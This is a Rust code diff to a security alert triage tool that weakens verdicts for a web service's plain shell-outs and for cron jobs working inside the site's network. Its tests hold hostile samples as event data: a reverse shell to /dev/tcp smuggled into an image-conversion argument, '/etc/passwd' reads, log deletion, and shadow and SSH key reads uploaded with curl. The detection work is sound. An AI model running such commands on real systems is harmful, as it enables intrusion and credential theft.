@@ -13,7 +13,10 @@ use serde_json::{json, Value as Json};
 
 use crate::catalogue::{shipped_executable, Catalogue};
 use crate::cluster::{cluster, target, Cluster};
-use crate::evidence::{activity, actor, target_sensitivity, unattended, Activity, Sensitivity};
+use crate::evidence::{
+    activity, actor, plain_service_command, scheduled_job, target_sensitivity, unattended,
+    Activity, Sensitivity,
+};
 use crate::history::History;
 use crate::input::{alerts, text, Alert, Record};
 use crate::session::{Context, Sessions};
@@ -523,9 +526,11 @@ impl Triage<'_> {
         out.into_iter().map(|(_, r)| r).collect()
     }
 
-    /// An alert whose own process lineage shows an attack: a service's shell or a
-    /// dropped binary the catalogue does not explain, a network stdin, a service account at
-    /// a terminal.
+    /// An alert whose own process lineage shows an attack: a service's shell that ran more
+    /// than one plain command of the system's own ([`plain_service_command`]) or a dropped
+    /// binary, either unexplained by the catalogue, a network stdin, a service account at a
+    /// terminal. Weak evidence (a plain command under a service's shell) does not make an
+    /// alert evidence against the other alerts of its session.
     fn intrinsically_suspicious(&self, ev: &FlatEvent) -> bool {
         let a = actor(ev);
         let cat = self.catalogue.find(ev);
@@ -537,7 +542,9 @@ impl Triage<'_> {
                     .built(p, None, a.dropped_parent.as_deref())
                     .is_none()
         });
-        (a.service_shell.is_some() && !allows("service_shell"))
+        (a.service_shell.is_some()
+            && !allows("service_shell")
+            && plain_service_command(ev).is_none())
             || dropped
             || a.network_stdio.is_some()
             || (a.tty && a.system_account.is_some())
@@ -620,9 +627,16 @@ impl Triage<'_> {
             .iter()
             .filter(counts)
             .find(|c| matches!(c.act.activity, Activity::ExecDropped(_)));
+        // A job nobody entered (cron, an agent under init), with no service in its
+        // lineage: its connections to the host's or the site's own networks are its work
+        // (a backup server, a database probe), and credentials it reads are not stolen
+        // while nothing in its session reached outside the site (issue 11).
+        let job = scheduled_job(ev);
+        let reached_outside = ctx.iter().any(|c| c.act.outside);
         let outbound = ctx
             .iter()
             .filter(counts)
+            .filter(|c| !job || c.act.outside)
             .find(|c| matches!(c.act.activity, Activity::Outbound(..)));
         let net_stdio = ctx
             .iter()
@@ -630,6 +644,7 @@ impl Triage<'_> {
         let creds = ctx
             .iter()
             .filter(counts)
+            .filter(|_| !job || reached_outside)
             .find(|c| matches!(c.act.activity, Activity::CredentialRead(..)));
         let maintenance = ctx
             .iter()
@@ -693,11 +708,25 @@ impl Triage<'_> {
             .as_ref()
             .filter(|_| !allows("service_shell"));
         if let Some((server, shell)) = service_shell {
-            out.push(hit(
-                "service_shell",
-                1.0,
-                vec![("server", server.clone()), ("shell", shell.clone())],
-            ));
+            // A shell that only ran one plain command of the system's own (a web
+            // application's mail or image conversion) is weaker evidence than one running
+            // a download, a network tool or an interactive shell.
+            match plain_service_command(ev) {
+                Some(cmd) => out.push(hit(
+                    "service_shell_command",
+                    1.0,
+                    vec![
+                        ("server", server.clone()),
+                        ("shell", shell.clone()),
+                        ("cmd", cmd),
+                    ],
+                )),
+                None => out.push(hit(
+                    "service_shell",
+                    1.0,
+                    vec![("server", server.clone()), ("shell", shell.clone())],
+                )),
+            }
         }
         if let Some(what) = &a.network_stdio {
             let what = match lang {
@@ -1442,6 +1471,117 @@ mod tests {
             json!({"evt.type":"execve","evt.rawres":0,"proc.sid":307,"evt.rawtime":5,"proc.name":"sh","proc.pname":"php-fpm","proc.cmdline":"sh -c sendmail x; cat /etc/passwd"}),
         )];
         let r = verdict_of(&bad, "Run shell untrusted");
+        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+    }
+
+    /// A web application's image conversion through `sh -c` is a weaker service shell
+    /// than the same shell-out shape running an injected reverse shell.
+    #[test]
+    fn a_services_plain_shell_out_is_weaker_than_a_web_shell() {
+        let ok = vec![l(
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":320,"evt.rawtime":5,"proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.pname":"php-fpm","user.name":"www-data","user.uid":33,"proc.cmdline":"sh -c convert /tmp/phpQk8s2L -resize 320x320 /var/www/gallery/thumbs/img_0912.jpg"}),
+        )];
+        let r = verdict_of(&ok, "Run shell untrusted");
+        let s = signals(&r[0]);
+        assert!(
+            s.contains(&"service_shell_command") && !s.contains(&"service_shell"),
+            "{s:?}"
+        );
+        assert_eq!(r[0].verdict, Verdict::Uncertain, "{:#?}", r[0]);
+        let bad = vec![
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":321,"evt.rawtime":5,"proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.pname":"php-fpm","user.name":"www-data","user.uid":33,"proc.cmdline":"sh -c convert 'https://x\";bash -c \"bash -i >& /dev/tcp/198.51.100.60/443 0>&1' out.png"}),
+            ),
+            l(
+                json!({"evt.type":"connect","evt.rawres":0,"proc.sid":321,"evt.rawtime":6,"proc.name":"bash","proc.pname":"sh","proc.aname[2]":"php-fpm","fd.name":"10.0.0.2:40000->198.51.100.60:443"}),
+            ),
+        ];
+        let r = verdict_of(&bad, "Run shell untrusted");
+        let s = signals(&r[0]);
+        assert!(
+            s.contains(&"service_shell") && !s.contains(&"service_shell_command"),
+            "{s:?}"
+        );
+        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+        // A plain command whose act is itself flagged (a web server's shell deleting the
+        // package log): both alerts stay likely real.
+        let del = vec![
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":322,"evt.rawtime":5,"proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.pname":"php-fpm","proc.cmdline":"sh -c rm -f /var/log/dpkg.log"}),
+            ),
+            l(
+                json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":322,"evt.rawtime":6,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.pname":"sh","proc.aname[2]":"php-fpm","proc.pcmdline":"sh -c rm -f /var/log/dpkg.log","fs.path.name":"/var/log/dpkg.log"}),
+            ),
+        ];
+        for rule in ["Run shell untrusted", "Clear Log Activities"] {
+            let r = verdict_of(&del, rule);
+            assert_eq!(r[0].verdict, Verdict::LikelyReal, "{rule}: {:#?}", r[0]);
+        }
+    }
+
+    /// A cron job reading keys and shadow and uploading the archive to the site's own
+    /// backup server is not a stealer; the same job uploading to a public address is
+    /// weighed as one, and so is the same read in a person's session.
+    #[test]
+    fn a_scheduled_jobs_credentials_sent_inside_the_site_are_not_stolen() {
+        let job = |sid: i64, dest: &str| {
+            vec![
+                l(
+                    json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":sid,"evt.rawtime":5,"proc.name":"tar","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron","fd.name":"/etc/shadow"}),
+                ),
+                l(
+                    json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":sid,"evt.rawtime":6,"proc.name":"tar","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron","fd.name":"/home/ops/.ssh/id_ed25519"}),
+                ),
+                l(
+                    json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":7,"proc.name":"curl","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron","proc.cmdline":format!("curl -sf -T /var/backups/etc.tgz http://{dest}:8000/up/")}),
+                ),
+            ]
+        };
+        let r = verdict_of(&job(330, "10.0.4.7"), "Read ssh");
+        assert!(
+            !signals(&r[0]).contains(&"session_credentials"),
+            "{:#?}",
+            r[0]
+        );
+        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+        let r = verdict_of(&job(331, "203.0.113.50"), "Read ssh");
+        assert!(
+            signals(&r[0]).contains(&"session_credentials"),
+            "{:#?}",
+            r[0]
+        );
+        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+        // The same reads and upload from a web server's child: not a job.
+        let web: Vec<String> = job(332, "10.0.4.7")
+            .iter()
+            .map(|x| x.replace("\"cron\"", "\"nginx\""))
+            .collect();
+        let r = verdict_of(&web, "Read ssh");
+        assert!(
+            signals(&r[0]).contains(&"session_credentials"),
+            "{:#?}",
+            r[0]
+        );
+    }
+
+    /// A scheduled job's network tool probing a port on the site's network is not an
+    /// outbound step; the same probe of a public address is.
+    #[test]
+    fn a_scheduled_jobs_connection_inside_the_site_is_not_outbound() {
+        let job = |sid: i64, dest: &str| {
+            vec![
+                l(
+                    json!({"evt.type":"connect","evt.rawres":0,"proc.sid":sid,"evt.rawtime":5,"proc.name":"nc","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron","fd.name":format!("10.0.0.2:40000->{dest}:4444")}),
+                ),
+                l(
+                    json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":sid,"evt.rawtime":6,"proc.name":"cat","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron","fd.name":"/home/ops/.ssh/known_hosts"}),
+                ),
+            ]
+        };
+        let r = verdict_of(&job(340, "10.0.4.7"), "Read ssh");
+        assert!(!signals(&r[0]).contains(&"session_outbound"), "{:#?}", r[0]);
+        let r = verdict_of(&job(341, "203.0.113.50"), "Read ssh");
+        assert!(signals(&r[0]).contains(&"session_outbound"), "{:#?}", r[0]);
         assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
     }
 
